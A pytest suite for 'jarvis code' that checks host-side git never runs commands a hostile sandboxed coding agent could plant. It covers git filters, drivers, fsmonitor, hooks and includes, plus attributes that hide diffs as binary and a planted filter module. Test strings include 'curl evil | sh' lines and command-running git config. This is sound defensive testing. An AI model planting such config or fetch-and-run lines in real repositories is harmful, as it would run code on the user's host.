"""Host-side git in `jarvis code` runs nothing a project, the user's config or the
agent can name, shows what it applies, and stays bounded.

Each case makes a workspace, writes into it what a hostile agent would (as the agent
does from the sandbox: the files are all it controls), then records the change and
applies or discards it through the same functions `jarvis code` uses. The end-to-end
runs through the CLI and the real sandbox are in ``test_host_git_sandbox.py``.
"""

from __future__ import annotations

import importlib.util
import os
import subprocess
import sys
from pathlib import Path

import pytest

from jarvisd._config import Config, parse_config
from jarvisd._errors import WorkspaceError
from jarvisd._paths import paths
from jarvisd.code import CodeStore, Workspace, apply, discard, prepare
from jarvisd.code._job import _snapshot

from .conftest import CALC, FIXED, git

#: Every config key that makes git run a command, and how the case arms it: the
#: config lines (MARKER stands for the marker file the command would create), and the
#: attribute line the key needs to fire, if any.
KEYS: dict[str, tuple[str, str]] = {
    "filter.clean": ('[filter "x"]\n\tclean = touch MARKER\n\trequired = false\n', "* filter=x"),
    "filter.smudge": ('[filter "x"]\n\tsmudge = touch MARKER\n', "* filter=x"),
    "filter.process": ('[filter "x"]\n\tprocess = touch MARKER\n', "* filter=x"),
    "diff.command": ('[diff "x"]\n\tcommand = touch MARKER\n', "* diff=x"),
    "diff.textconv": ('[diff "x"]\n\ttextconv = touch MARKER\n', "* diff=x"),
    "merge.driver": ('[merge "x"]\n\tdriver = touch MARKER\n', "* merge=x"),
    "core.fsmonitor": ('[core]\n\tfsmonitor = "touch MARKER; false"\n', ""),
    "core.hooksPath": ("[core]\n\thooksPath = HOOKS\n", ""),
    "core.sshCommand": ("[core]\n\tsshCommand = touch MARKER\n", ""),
    "core.pager": ("[core]\n\tpager = touch MARKER\n[pager]\n\tdiff = touch MARKER\n", ""),
    "include.path": ("[include]\n\tpath = INCLUDED\n", ""),
    "includeIf": ('[includeIf "gitdir:/"]\n\tpath = INCLUDED\n', ""),
    "core.attributesFile": (
        '[core]\n\tattributesFile = ATTRIBUTES\n[filter "x"]\n\tclean = touch MARKER\n',
        "",
    ),
}
#: Where a key or its attribute is set.
PLACES = ("project .git/config", ".git/info/attributes", "agent's .gitattributes", "~/.gitconfig")


def store() -> CodeStore:
    return CodeStore(paths().state / "code.db")


def finish(ws: Workspace, config: Config | None = None) -> Workspace:
    """What `jarvis code` does once the agent is done: record the change (bounded), clear
    the workspace of `.git` entries, store the outcome."""
    change, error = _snapshot(ws, config or Config())
    files = [{"status": s, "path": p} for s, p in change.files]
    outcome = {"result": change.result, "files": files, "diff": change.diff,
               "failure": None if error is None else {"message": str(error)}}  # fmt: skip
    return store().update(ws, state="done" if error is None else "failed", outcome=outcome)


#: Every driver attribute at once (for the keys whose command needs none itself).
ALL_ATTRIBUTES = "* filter=x diff=x merge=x"


def arm(case: str, place: str, project: Path, home: Path, marker: Path) -> tuple[str, str]:
    """Set ``case``'s key at ``place`` (for a place that holds attributes: its
    attribute there, the key in both configs). What the agent writes then: its
    .gitattributes, and a .git/config of its own (for the agent's place)."""
    lines, attribute = KEYS[case]
    attribute = attribute or ALL_ATTRIBUTES
    hooks, included, attributes = home / "hooks", home / "included", home / "attributes"
    hooks.mkdir(exist_ok=True)
    for where in (hooks, project / ".git" / "hooks"):
        where.mkdir(exist_ok=True)
        for hook in ("pre-commit", "post-commit", "reference-transaction", "post-index-change",
                     "post-checkout", "pre-auto-gc", "post-rewrite"):  # fmt: skip
            (where / hook).write_text(f"#!/bin/sh\ntouch {marker}\n")
            (where / hook).chmod(0o755)
    included.write_text(
        f'[core]\n\tfsmonitor = "touch {marker}; false"\n[filter "x"]\n\tclean = touch {marker}\n'
    )
    attributes.write_text(ALL_ATTRIBUTES + "\n")
    config = (
        lines.replace("MARKER", str(marker)).replace("HOOKS", str(hooks))
        .replace("INCLUDED", str(included)).replace("ATTRIBUTES", str(attributes))
    )  # fmt: skip
    if place == "project .git/config":
        _append(project / ".git" / "config", config)
        return attribute, ""
    if place == "~/.gitconfig":
        _append(home / ".gitconfig", config)
        return attribute, ""
    _append(project / ".git" / "config", config)
    _append(home / ".gitconfig", config)
    if place == ".git/info/attributes":
        _append(project / ".git" / "info" / "attributes", attribute + "\n")
        return "", ""
    return attribute, config


def _append(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a") as handle:
        handle.write(text)


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home of the test's own, whose ~/.gitconfig the case may set."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    return home


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("case", sorted(KEYS))
def test_no_key_anywhere_runs_a_command(
    case: str, place: str, project: Path, home: Path, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    agent_attributes, agent_config = arm(case, place, project, home, marker)
    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t")
    tree = Path(ws.path)
    # The agent: a change to review and merge, the attribute, a file for every filter,
    # and (its place) a repository of its own in the workspace, armed the same way.
    (tree / "calc.py").write_text(FIXED)
    (tree / "notebook.ipynb").write_text('{"cells": []}\n')
    (tree / ".gitattributes").write_text(agent_attributes + "\n")
    if agent_config:
        subprocess.run(["git", "init", "-q", str(tree)], check=True, capture_output=True)
        _append(tree / ".git" / "config", agent_config)
    ws = finish(ws)
    assert ws.outcome["failure"] is None, ws.outcome
    assert "+    return a + b" in ws.outcome["diff"]
    (project / "calc.py").write_text("# changed meanwhile\n\n\n" + CALC)  # a three-way merge
    apply(ws.id, store(), paths().state)
    assert (project / "calc.py").read_text() == "# changed meanwhile\n\n\n" + FIXED
    assert not marker.exists(), f"{case} set in {place} ran a command"


def test_a_plain_project_with_a_filter_in_the_home_config(home: Path, tmp_path: Path) -> None:
    """The review's third escape: no git project at all, the filter in ~/.gitconfig and
    the attribute in the agent's .gitattributes, the filter run as `python -m MODULE`
    from the workspace (where the agent put MODULE)."""
    marker = tmp_path / "ran"
    (home / ".gitconfig").write_text('[filter "strip"]\n\tclean = python3 -m stripper\n')
    project = tmp_path / "plain"
    project.mkdir()
    (project / "calc.py").write_text(CALC)
    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t")
    tree = Path(ws.path)
    (tree / "stripper.py").write_text(f"open({str(marker)!r}, 'w').write('ran on the host')\n")
    (tree / ".gitattributes").write_text("*.ipynb filter=strip\n")
    (tree / "notebook.ipynb").write_text("{}\n")
    ws = finish(ws)
    assert {f["path"] for f in ws.outcome["files"]} == {
        "stripper.py",
        ".gitattributes",
        "notebook.ipynb",
    }
    discard(ws, store(), paths().state)
    assert not marker.exists()


def test_what_is_reviewed_is_what_is_applied(project: Path) -> None:
    """Attributes that would show a text change as a binary one (`-diff`), in an
    ignored .gitattributes the agent writes and in the project's info/attributes: the
    stored diff shows the text."""
    (project / ".git" / "info").mkdir(exist_ok=True)
    (project / ".git" / "info" / "attributes").write_text("*.sh -diff\n")
    (project / "src").mkdir()
    (project / "src" / "mod.py").write_text("x = 1\n")
    (project / "run.sh").write_text("echo hi\n")
    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t")
    tree = Path(ws.path)
    (tree / ".gitignore").write_text("src/.gitattributes\n")
    (tree / "src" / ".gitattributes").write_text("* -diff\n")
    (tree / "src" / "mod.py").write_text("x = 1\nimport os; os.system('curl evil | sh')\n")
    (tree / "run.sh").write_text("echo hi\ncurl evil | sh\n")
    ws = finish(ws)
    diff = ws.outcome["diff"]
    assert "+import os; os.system('curl evil | sh')" in diff
    assert "+curl evil | sh" in diff
    assert "Binary files" not in diff and "GIT binary patch" not in diff


def test_a_file_named_like_a_pathspec_is_that_file(project: Path) -> None:
    """`:/x` (a directory named `:` holding `x`) is not the pathspec "x at the top"."""
    (project / "x").write_text("top-level x\n")
    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t")
    tree = Path(ws.path)
    (tree / ":").mkdir()
    (tree / ":" / "x").write_text("the file :/x\n")
    for name in ("*", "[ab]", ":(glob)*"):
        (tree / name).write_text(f"the file {name}\n")
    ws = finish(ws)
    assert {f["path"] for f in ws.outcome["files"]} == {":/x", "*", "[ab]", ":(glob)*"}
    apply(ws.id, store(), paths().state)
    assert (project / ":" / "x").read_text() == "the file :/x\n"
    assert (project / "x").read_text() == "top-level x\n"
    for name in ("*", "[ab]", ":(glob)*"):
        assert (project / name).read_text() == f"the file {name}\n"


def test_a_git_entry_the_agent_leaves_is_gone_from_the_path_shown(
    project: Path, tmp_path: Path
) -> None:
    """The agent replaces the workspace's `.git` (and plants one below) with a repository
    whose config runs a command: after the run, git run in the path jarvis prints finds
    no repository of the agent's making."""
    marker = tmp_path / "ran"
    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t")
    tree = Path(ws.path)
    for where in (tree, tree / "sub"):
        where.mkdir(exist_ok=True)
        subprocess.run(["git", "init", "-q", str(where)], check=True)
        with (where / ".git" / "config").open("a") as handle:
            handle.write(f'[core]\n\tfsmonitor = "touch {marker}; false"\n')
    (tree / "sub" / "file").write_text("x\n")
    (tree / "calc.py").write_text(FIXED)
    ws = finish(ws)
    assert ws.outcome["files"] == [{"status": "M", "path": "calc.py"}]
    assert not (tree / ".git").exists() and not (tree / "sub" / ".git").exists()
    for where in (tree, tree / "sub"):
        subprocess.run(["git", "-c", "safe.directory=*", "status"], cwd=where,
                       capture_output=True, env={**os.environ, "GIT_CEILING_DIRECTORIES": str(tree.parent)})  # fmt: skip
    assert not marker.exists()


def test_a_change_too_large_is_refused_before_it_is_read(project: Path) -> None:
    """100 sparse files of 63 MiB: refused at once (their sizes alone say so), with
    the run failed and nothing recorded; a file over the per-file limit is named."""
    config = parse_config({"code": {"max_file_bytes": 64 << 20, "max_change_bytes": 500 << 20}})
    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t")
    tree = Path(ws.path)
    for i in range(100):
        with (tree / f"sparse{i:03d}.bin").open("wb") as handle:
            handle.truncate(63 << 20)
    ws = finish(ws, config)
    assert ws.state == "failed" and ws.outcome["files"] == []
    message = ws.outcome["failure"]["message"]
    assert "the 100 files changed hold 6300.0 MiB, more than [code] max_change_bytes" in message
    with pytest.raises(WorkspaceError, match="no change"):
        apply(ws.id, store(), paths().state)

    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t")
    with (Path(ws.path) / "big.bin").open("wb") as handle:
        handle.truncate(65 << 20)
    ws = finish(ws, config)
    assert (
        "big.bin holds 65.0 MiB, more than [code] max_file_bytes (64.0 MiB)"
        in (ws.outcome["failure"]["message"])
    )


def test_the_project_git_directory_is_never_written(project: Path) -> None:
    """Objects, refs and worktrees stay the project's own: everything jarvis records is
    in its private repository, gone with discard."""

    def listing() -> set[str]:
        top = project / ".git"
        return {str(p.relative_to(top)) for p in top.rglob("*") if p.name != "index"}

    before = listing()
    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t")
    (Path(ws.path) / "data.bin").write_bytes(os.urandom(1 << 20))
    (Path(ws.path) / "calc.py").write_text(FIXED)
    ws = finish(ws)
    assert ws.outcome["files"] and listing() == before
    assert git(project, "branch", "--list", "jarvis/*") == ""
    discard(ws, store(), paths().state)
    assert listing() == before and not Path(ws.path).parent.exists()


def test_bytecode_the_agent_wrote_never_stands_in_for_the_source(project: Path) -> None:
    """A .pyc made from the fixed source, stamped with the unchanged source's mtime and
    size: "test after" must run the source (the change shows no fix)."""
    import asyncio

    from jarvisd.code._job import _run_test
    from jarvisd.executors import SubprocessExecutor

    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t",
                 test=f"{sys.executable} -c 'import test_calc as t; t.test_add()'")  # fmt: skip
    calc = Path(ws.path) / "calc.py"
    info = calc.stat()
    code = compile(FIXED, str(calc), "exec")
    from importlib import _bootstrap_external  # type: ignore[attr-defined]

    data = _bootstrap_external._code_to_timestamp_pyc(code, info.st_mtime, info.st_size)
    cached = Path(importlib.util.cache_from_source(str(calc)))
    cached.parent.mkdir()
    cached.write_bytes(data)
    (Path(ws.path) / "calc.pyc").write_bytes(data)  # beside the source too
    result = asyncio.run(_run_test(SubprocessExecutor(), ws, 60))
    assert not result.passed, result.output
    assert "AssertionError" in result.output
    assert not cached.exists()


def test_the_users_own_ignore_file_still_keeps_files_out(project: Path, home: Path) -> None:
    """Global config is never read while recording, yet a file the user ignores
    everywhere (``core.excludesFile``) still never reaches the workspace."""
    (home / ".gitconfig").write_text(f"[core]\n\texcludesFile = {home / 'ignore'}\n")
    (home / "ignore").write_text("private-notes.txt\n")
    (project / "private-notes.txt").write_text("mine\n")
    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t")
    assert not (Path(ws.path) / "private-notes.txt").exists()
    assert {"path": "private-notes.txt", "reason": "ignored by git"} in [
        dict(x) for x in ws.left_out
    ]


def test_a_git_entry_that_cannot_be_removed_is_reported(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As a user other than root, jarvis may be unable to remove what the sandbox's user
    made: the run then says so instead of showing the path as safe."""
    from jarvisd.code import _workspace

    ws = prepare(str(project), store=store(), state_dir=paths().state, task="t")
    (Path(ws.path) / ".git").mkdir()
    (Path(ws.path) / "calc.py").write_text(FIXED)
    monkeypatch.setattr(_workspace.shutil, "rmtree", lambda *a, **kw: None)
    ws = finish(ws)
    assert ws.outcome["files"] == [{"status": "M", "path": "calc.py"}]
    assert "left .git in workspace" in ws.outcome["failure"]["message"]
    assert "do not run git there" in ws.outcome["failure"]["message"]
